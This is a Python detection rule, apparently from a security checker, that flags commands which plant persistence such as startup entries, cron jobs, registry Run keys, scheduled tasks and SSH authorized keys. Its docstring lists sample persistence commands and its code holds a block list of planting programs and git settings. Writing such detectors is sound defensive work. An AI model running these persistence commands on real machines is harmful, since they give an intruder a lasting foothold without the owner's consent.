r"""Stays on the computer.

Something is written to a place that the system, a shell or another program reads by itself: when you log in, open a
terminal, commit, or at a set time. It goes on running when the server is long removed.

Flags:
    EXEC-PERSIST         sh -c 'echo id >> ~/.bashrc'
    EXEC-PERSIST         sh -c 'echo key | tee -a ~/.ssh/authorized_keys'
    EXEC-PERSIST         cp notes.desktop /home/me/.config/autostart/notes.desktop
    EXEC-PERSIST         sh -c 'curl -so ~/Library/LaunchAgents/n.plist https://files.example.com/n.plist'
    EXEC-PERSIST         sh -c '(crontab -l; echo "* * * * * id") | crontab -'
    EXEC-PERSIST         sh -c 'systemctl --user enable notes'
    EXEC-PERSIST         cmd /c 'reg add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v n /d calc'
    EXEC-PERSIST         powershell -c 'Register-ScheduledTask -TaskName n -Action $a'
    EXEC-PERSIST         powershell -c 'Add-Content $PROFILE calc'
Passes:
    sh -c '. ~/.bashrc; npx -y notes-mcp@1.2.3'
    sh -c 'cat ~/.profile'
    sh -c 'npx -y notes-mcp@1.2.3 >> ~/notes.log'
    cp notes.txt /home/me/notes-copy.txt
    npx -y notes-mcp@1.2.3 /home/me/.bashrc
    sh -c 'git config --get user.name; npx -y notes-mcp@1.2.3'
Source: MITRE ATT&CK T1546, T1547, T1053 and T1543.
"""

from __future__ import annotations

from collections.abc import Iterator
from typing import TYPE_CHECKING

from consentry.effects import Effect
from consentry.language import _
from consentry.model import Finding, Level
from consentry.rules.interface import Case, Wording, every, on_part
from consentry.rules.scripts import LONGEST, acts, tell

if TYPE_CHECKING:
    from consentry.script.values import Command, Script

IDS: tuple[str, ...] = ("EXEC-PERSIST",)

PERSIST = Wording(
    id="EXEC-PERSIST",
    level=Level.DANGER,
    title=_("Stays on the computer"),
    says=_("This adds something that starts by itself later, also after the server is removed."),
    consequence=_("Adds something that starts by itself later."),
    phrase="start by itself",
)

#: Program -> words of which one makes it plant something; () is any use.
_PLANTS: dict[str, tuple[str, ...]] = {
    "systemctl": ("enable", "link", "reenable", "edit"),
    "launchctl": ("load", "bootstrap", "submit", "enable", "kickstart"),
    "schtasks": ("/create", "/change"),
    "sc": ("create", "config"),
    "update-rc.d": (),
    "chkconfig": (),
    "rc-update": ("add",),
    "loginctl": ("enable-linger",),
    "at": (),
    "batch": (),
    "ssh-copy-id": (),
    "useradd": (),
    "adduser": (),
    "usermod": (),
    "new-service": (),
    "set-service": (),
    "register-scheduledtask": (),
    "register-scheduledjob": (),
    "register-wmievent": (),
    "set-wmiinstance": (),
    "new-scheduledtask": (),
    "systemd-run": ("--on-calendar", "--on-boot", "--on-startup", "--on-active", "--on-unit"),
    "incrontab": (),
}
#: Settings of git that name a command or a folder of commands.
_GIT_KEYS = (
    "core.hookspath",
    "alias.",
    "core.sshcommand",
    "core.pager",
    "core.editor",
    "core.fsmonitor",
    "credential.helper",
    "init.templatedir",
    "diff.external",
)
_REGISTRY = frozenset(("reg", "new-itemproperty", "set-itemproperty", "sp", "new-item", "set-item", "ni", "si"))
_MOVES = frozenset(
    ("cp", "mv", "ln", "install", "rsync", "copy", "move", "xcopy", "robocopy", "copy-item", "move-item")
)


def _plants(name: str, words: tuple[str, ...]) -> bool:
    from consentry.script.places import KEYS, PLACES

    low = tuple(word.casefold() for word in words)
    if name in _PLANTS:
        needs = _PLANTS[name]
        return (not needs and (name not in ("at", "batch") or low[:1] != ("-l",))) or any(
            word.startswith(needs) for word in low if needs
        )
    if name == "crontab":
        return not any(word in ("-l", "-r") for word in low)
    if name in _REGISTRY:
        return (name != "reg" or low[:1] in (("add",), ("import",), ("copy",))) and any(map(KEYS.search, words))
    if name == "git":
        return low[:1] == ("config",) and any(word.startswith(_GIT_KEYS) for word in low)
    if name == "npm":
        return low[:1] in (("config",), ("set",), ("c",)) and any(
            w.startswith(("script-shell", "node-options")) for w in low
        )
    if name == "defaults":
        return low[:1] == ("write",) and any("loginwindow" in word or "loginhook" in word for word in low)
    if name == "osascript":
        return any("login item" in word for word in low)
    if name == "setx":
        return bool(low)
    return name in _MOVES and bool(words) and bool(PLACES.search(words[-1]))


def _command(command: Command) -> bool:
    from consentry.script.kinds import called
    from consentry.script.places import PLACES, plain
    from consentry.script.writes import written

    if any(PLACES.search(plain(path)) for path in written(command)):
        return True
    call = called(command)
    return bool(call.name) and _plants(call.name, tuple(plain(word.text) for word in call.rest))


def _found(read: Script) -> Command | None:
    return next((command for command in read.commands if _command(command)), None)


def check(case: Case, /) -> Iterator[Finding]:
    """Findings about what stays."""
    for told in acts(case):
        hit = _found(told.script)
        if hit is not None:
            yield tell(PERSIST, case, told, hit)
    for part in every(case.plan):
        if part.effect == Effect.INLINE_CODE:
            from consentry.script.places import planted_by

            if planted_by(part.detail[:LONGEST]):
                yield on_part(PERSIST, case, part)
